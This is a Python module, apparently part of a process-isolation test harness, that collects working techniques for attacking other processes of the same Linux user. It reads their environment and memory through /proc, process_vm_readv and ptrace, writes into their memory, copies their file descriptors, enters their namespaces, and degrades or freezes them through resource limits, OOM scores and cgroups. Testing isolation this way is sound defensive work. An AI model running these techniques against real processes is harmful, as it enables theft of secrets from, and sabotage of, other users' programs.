"""Attacks on other processes of the same user."""

import ctypes
import errno
import os
import resource
import signal
from collections.abc import Callable
from pathlib import Path

from .kernel import CLONE_NEWNS, CLONE_NEWUSER, LIBC, call, numbered
from .prey import Prey, Victim

PTRACE_PEEKDATA, PTRACE_ATTACH = 2, 16
WORD = ctypes.sizeof(ctypes.c_long)
KCMP_VM = 1
MOST_DESCRIPTORS = 64
ODD = 54_321
"""A limit that nobody else sets."""
SCORE = "987"
"""Out of memory the first to go."""

Way = Callable[[Victim], str]


class Range(ctypes.Structure):
    """struct iovec."""

    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def environment(victim: Victim) -> str:
    """What it was started with."""
    return Path(f"/proc/{victim.pid}/environ").read_text()


def maps(victim: Victim) -> str:
    """What its memory consists of."""
    return Path(f"/proc/{victim.pid}/maps").read_text()


def memory(victim: Victim) -> str:
    """Its secret, by the file that is its memory."""
    with Path(f"/proc/{victim.pid}/mem").open("rb", buffering=0) as file:
        file.seek(victim.address)
        return file.read(victim.length).decode()


def memory_by_call(victim: Victim) -> str:
    """The same by process_vm_readv."""
    ours = ctypes.create_string_buffer(victim.length)
    _transfer("process_vm_readv", victim, victim.address, ours)
    return ours.raw.decode()


def memory_by_ptrace(victim: Victim) -> str:
    """The same as a debugger does it. The kernel lets it go on when the attacker ends."""
    call(LIBC.ptrace, PTRACE_ATTACH, victim.pid, None, None)
    os.waitpid(victim.pid, os.WSTOPPED)
    places = range(victim.address, victim.address + victim.length, WORD)
    words = [LIBC.ptrace(PTRACE_PEEKDATA, victim.pid, each, None) for each in places]
    secret = b"".join(each.to_bytes(WORD, "little", signed=True) for each in words)
    return secret[: victim.length].decode()


def write_memory(prey: Prey) -> str:
    """Over a name in paperboi's environment, by the file that is its memory."""
    with Path(f"/proc/{prey.paperboi.pid}/mem").open("r+b", buffering=0) as file:
        file.seek(prey.paperboi.address)
        file.write(b"BY_FILE")
    return "written"


def write_memory_by_call(prey: Prey) -> str:
    """Over what follows, by process_vm_writev."""
    ours = ctypes.create_string_buffer(b"BY_CALL", 7)
    _transfer("process_vm_writev", prey.paperboi, prey.paperboi.address + len(ours), ours)
    return "written"


def _transfer(name: str, victim: Victim, address: int, ours: "ctypes.Array[ctypes.c_char]") -> None:
    here, there = Range(ctypes.addressof(ours), len(ours)), Range(address, len(ours))
    call(getattr(LIBC, name), victim.pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)


def list_descriptors(pid: int) -> str:
    """Their numbers."""
    return " ".join(os.listdir(f"/proc/{pid}/fd"))


def descriptors(victim: Victim) -> str:
    """What its descriptors lead to."""
    directory = f"/proc/{victim.pid}/fd"
    return "\n".join(os.readlink(f"{directory}/{each}") for each in os.listdir(directory))


def shared_memory(victim: Victim) -> str:
    """How each begins that it has a descriptor of."""
    places = [f"/proc/self/fd/{each}" for each in _copies(victim)]
    return "\n".join(repr(_head(each)) for each in places if "memfd:" in os.readlink(each))


def _head(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read(16)


def copy_descriptors(victim: Victim) -> str:
    """What its descriptors lead to, each made one of the attacker's by pidfd_getfd."""
    return "\n".join(os.readlink(f"/proc/self/fd/{each}") for each in _copies(victim))


def _copies(victim: Victim) -> list[int]:
    process = os.pidfd_open(victim.pid)
    copies = [_copy(process, number) for number in range(MOST_DESCRIPTORS)]
    return [each for each in copies if each is not None]


def _copy(process: int, number: int) -> int | None:
    """A descriptor, if the process has one of this number."""
    try:
        return call(LIBC.pidfd_getfd, process, number, 0)
    except OSError as error:
        if error.errno != errno.EBADF:
            raise
        return None


def compare(victim: Victim) -> str:
    """How its memory's place in the kernel compares to the attacker's: kcmp."""
    return str(numbered("kcmp", os.getpid(), victim.pid, KCMP_VM, 0, 0))


def under_root(victim: Victim, path: str) -> str:
    """A file as the victim sees it."""
    return Path(f"/proc/{victim.pid}/root{path}").read_text()


def root(victim: Victim) -> str:
    """What is in its /run."""
    return " ".join(os.listdir(f"/proc/{victim.pid}/root/run"))


def working_directory(victim: Victim) -> str:
    """What is where it works."""
    return " ".join(os.listdir(f"/proc/{victim.pid}/cwd"))


def enter(victim: Victim) -> str:
    """Its mount namespace, entered through its user namespace."""
    call(LIBC.setns, os.pidfd_open(victim.pid), CLONE_NEWUSER | CLONE_NEWNS)
    return os.readlink("/proc/self/ns/mnt")


WAYS: dict[str, Way] = {
    "environment": environment,
    "maps": maps,
    "memory-by-file": memory,
    "memory-by-call": memory_by_call,
    "memory-by-ptrace": memory_by_ptrace,
    "descriptors": descriptors,
    "copied-descriptors": copy_descriptors,
    "comparison": compare,
    "root": root,
    "working-directory": working_directory,
    "namespaces": enter,
}


def send_signal(victim: Victim) -> str:
    """One that does nothing to it; SIGKILL is allowed where this is."""
    os.kill(victim.pid, signal.SIGURG)
    return "sent"


def limit(victim: Victim) -> str:
    """A limit of its resources that is of no use to it, lowered."""
    resource.prlimit(victim.pid, resource.RLIMIT_MSGQUEUE, (ODD, ODD))
    return str(ODD)


def slow(victim: Victim) -> str:
    """Others go before it."""
    os.setpriority(os.PRIO_PROCESS, victim.pid, 19)
    return "19"


def doom(pid: int) -> str:
    """Out of memory it is the first to be killed."""
    Path(f"/proc/{pid}/oom_score_adj").write_text(SCORE)
    return SCORE


def allow_dump(victim: Victim) -> str:
    """Its memory would be written to disk when it crashes."""
    resource.prlimit(victim.pid, resource.RLIMIT_CORE, (ODD, ODD))
    return str(ODD)


def join_group(victim: Victim) -> str:
    """The attacker in the control group of another unit, and so with its name."""
    (_group(victim) / "cgroup.procs").write_text("0")
    return Path("/proc/self/cgroup").read_text()


def freeze(victim: Victim) -> str:
    """Stops all of a unit for a moment."""
    switch = _group(victim) / "cgroup.freeze"
    switch.write_text("1")
    frozen = switch.read_text()
    switch.write_text("0")
    return f"freeze={frozen}"


def _group(victim: Victim) -> Path:
    """The directory of its control group."""
    unified = Path(f"/proc/{victim.pid}/cgroup").read_text().splitlines()[-1]
    return Path(f"/sys/fs/cgroup{unified.removeprefix('0::')}")
